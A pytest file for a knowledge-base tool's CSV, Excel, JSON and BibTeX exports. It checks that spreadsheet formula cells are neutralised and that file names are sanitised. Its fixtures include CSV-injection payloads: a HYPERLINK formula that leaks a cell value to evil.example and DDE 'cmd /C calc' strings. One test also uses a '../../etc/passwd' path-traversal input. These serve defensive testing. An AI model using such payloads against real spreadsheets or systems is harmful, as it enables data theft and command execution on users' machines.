"""Downloads of a view (search results, an Explore selection, a comparison) and `kb export
--format csv`, opened the way a researcher opens them: Python's csv module, openpyxl, json."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from kb import KnowledgeBase
from kb.cells import neutralise, restore
from kb.cli import main
from kb.config import Settings
from kb.export import CSV_COLUMNS, file_name
from tests.conftest import SAMPLE

DAY = dt.date(2026, 12, 4)
BASE = "http://localhost:8501/"
HOSTILE_TITLES = {
    "formula-hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "formula-command": "+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-minus": "-5 degrees in winter, cycling anyway",
    "formula-quoted": "'=already quoted by its author",
    "formula-tab": "\t=tab first",
}


def sample_dicts() -> list[dict]:
    return [json.loads(line) for line in SAMPLE.read_text(encoding="utf-8").splitlines()]


def hostile_dicts() -> list[dict]:
    first = sample_dicts()[0]
    return [
        first | {"slug": slug, "title": title, "tags": ["-minus tag", "=tag"]}
        for slug, title in HOSTILE_TITLES.items()
    ]


def read_csv(data: bytes | str) -> list[dict[str, str]]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    assert text.startswith("\ufeff"), "no byte-order mark: Excel would garble accented names"
    return list(csv.DictReader(io.StringIO(text[1:])))


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+cmd|x", "'+cmd|x"),
        ("-5 degrees", "'-5 degrees"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=a", "''=a"),  # already quoted: one more quote, so import gives back the same
        ("'quoted", "'quoted"),
        ("plain text", "plain text"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_formula_cells_get_a_leading_quote_and_import_removes_exactly_that(text, written):
    assert neutralise(text) == written
    assert restore(written) == text


def test_csv_export_neutralises_formulas_and_imports_back_to_the_same_text(kb, tmp_path):
    kb.import_dicts(hostile_dicts())
    stored = {r.slug: r.title for r in kb.records()}  # the tab-first title is stored trimmed
    exported = kb.export("csv")
    rows = {row["slug"]: row for row in read_csv(exported)}
    for slug in HOSTILE_TITLES:
        assert rows[slug]["title"] == "'" + stored[slug]  # each starts with = + - @ or '=
        assert rows[slug]["tags"] == "'-minus tag ; =tag"
    path = tmp_path / "cases.csv"
    path.write_bytes(exported.encode("utf-8"))
    other = KnowledgeBase(Settings(home=tmp_path / "other"))
    other.init()
    try:
        other.import_files([path])
        assert {r.slug: r.title for r in other.records()} == stored
        assert other.get("formula-minus").record.tags == ("-minus tag", "=tag")
    finally:
        other.close()


def test_kb_export_csv_writes_neutralised_cells(tmp_path, monkeypatch):
    monkeypatch.setenv("KB_HOME", str(tmp_path / "home"))
    monkeypatch.delenv("KB_DATABASE_URL", raising=False)
    source = tmp_path / "hostile.jsonl"
    source.write_text("".join(json.dumps(d) + "\n" for d in hostile_dicts()), encoding="utf-8")
    runner = CliRunner()
    assert runner.invoke(main, ["init"]).exit_code == 0
    assert runner.invoke(main, ["import", str(source)]).exit_code == 0
    out = tmp_path / "out.csv"
    assert runner.invoke(main, ["export", "--format", "csv", "-o", str(out)]).exit_code == 0
    rows = read_csv(out.read_bytes())
    assert {r["title"][:2] for r in rows} == {"'=", "'+", "'@", "'-", "''"}


def test_view_csv_keeps_screen_order_and_adds_country_name_region_income_and_population(
    bundled_kb,
):
    slugs = ["istanbul-istanbulkart-transit-smart-card", "barcelona-decidim", "cairo-harassmap"]
    slugs = [s for s in slugs if s in {r.slug for r in bundled_kb.records()}]
    data = bundled_kb.export_cases(slugs, "csv", retrieved=DAY)
    rows = read_csv(data)
    assert [r["slug"] for r in rows] == slugs  # as on screen, not by slug
    assert list(rows[0]) == list(CSV_COLUMNS)
    istanbul = rows[0]
    assert istanbul["title"].startswith("İstanbulkart")
    assert (istanbul["country"], istanbul["country_name"]) == ("TR", "Türkiye")
    assert (istanbul["region"], istanbul["sub_region"]) == ("Asia", "Western Asia")
    assert istanbul["income_group"] == "upper-middle"
    assert int(istanbul["city_population"]) > 10_000_000


def test_guediawaye_survives_the_byte_order_mark(bundled_kb):
    slug = next(r.slug for r in bundled_kb.records() if "Guédiawaye" in r.to_dict().__repr__())
    rows = read_csv(bundled_kb.export_cases([slug], "csv", retrieved=DAY))
    assert "Guédiawaye" in " ".join(rows[0].values())


def test_excel_workbook_has_cases_sources_and_an_about_sheet_with_the_licence(kb):
    kb.import_files([SAMPLE])
    kb.import_dicts(hostile_dicts()[:2])
    slugs = ["paris-autolib", "formula-hyperlink", "barcelona-decidim", "formula-command"]
    data = kb.export_cases(
        slugs, "xlsx", retrieved=DAY, description="Theme: E-mobility; query: bike"
    )
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Cases", "Sources", "About"]
    cases = [[c.value for c in row] for row in book["Cases"].iter_rows()]
    assert cases[0] == list(CSV_COLUMNS)
    column = {name: n for n, name in enumerate(cases[0])}
    assert [row[column["slug"]] for row in cases[1:]] == slugs
    titles = [row[column["title"]] for row in cases[1:]]
    assert titles[1] == "'" + HOSTILE_TITLES["formula-hyperlink"]
    assert titles[3] == "'" + HOSTILE_TITLES["formula-command"]
    assert all(c.data_type != "f" for row in book["Cases"].iter_rows() for c in row)
    paris = cases[1]
    assert paris[column["country_name"]] == "France" and paris[column["region"]] == "Europe"
    assert isinstance(paris[column["start_year"]], int)
    assert isinstance(paris[column["latitude"]], float)

    sources = [[c.value for c in row] for row in book["Sources"].iter_rows()]
    assert sources[0] == [
        "slug", "case_title", "number", "title", "publisher", "year", "type", "url",
    ]  # fmt: skip
    expected = [
        (slug, n, s.url) for slug in slugs for n, s in enumerate(kb.get(slug).record.sources, 1)
    ]
    assert [(r[0], r[2], r[7]) for r in sources[1:]] == expected

    about = {row[0].value: row[1].value for row in book["About"].iter_rows() if row[0].value}
    assert about["Selection"] == "Theme: E-mobility; query: bike"
    assert about["Cases"] == 4 and about["Retrieved"] == "2026-12-04"
    assert "CC BY 4.0" in about["Licence"]
    assert set(CSV_COLUMNS) <= set(about)  # every column is described


def test_json_lines_csl_json_and_bibtex_keep_the_order_given(kb):
    kb.import_files([SAMPLE])
    slugs = ["paris-autolib", "barcelona-decidim", "london-fixmystreet"]
    lines = kb.export_cases(slugs, "jsonl", retrieved=DAY).decode().splitlines()
    assert [json.loads(line)["slug"] for line in lines] == slugs
    items = json.loads(kb.export_cases(slugs, "csl-json", retrieved=DAY, base_url=BASE))
    assert [i["id"] for i in items] == [f"kb-{s}-r1" for s in slugs]
    assert items[0]["URL"] == f"{BASE}case?slug=paris-autolib"
    assert all("CC BY 4.0" in i["note"] for i in items)
    bib = kb.export_cases(slugs, "bibtex", retrieved=DAY, base_url=BASE).decode()
    assert re.findall(r"^@misc\{kb-(.+)-r\d+,$", bib, flags=re.MULTILINE) == slugs


def test_an_unknown_download_format_is_a_plain_error(kb):
    from kb.errors import KbError

    with pytest.raises(KbError, match="Unknown format 'pdf'; choose one of csv, xlsx"):
        kb.export_cases([], "pdf", retrieved=DAY)


@pytest.mark.parametrize(
    ("parts", "ext", "stem", "expected"),
    [
        (
            ["e-mobility", "disability"],
            "csv",
            "cases",
            "cases_e-mobility_disability_2026-12-04.csv",
        ),
        ([], "xlsx", "cases", "cases_2026-12-04.xlsx"),
        (
            ["bike share", "Latin America and the Caribbean"],
            "jsonl",
            "cases",
            "cases_bike-share_latin-america-and-the-caribbean_2026-12-04.jsonl",
        ),
        (["İstanbul / 2015–2020"], "bib", "compare", "compare_istanbul-2015-2020_2026-12-04.bib"),
        (["../../etc/passwd"], "csv", "cases", "cases_etc-passwd_2026-12-04.csv"),
    ],
)
def test_file_names_carry_the_filters_and_the_date(parts, ext, stem, expected):
    assert file_name(parts, ext, day=DAY, stem=stem) == expected
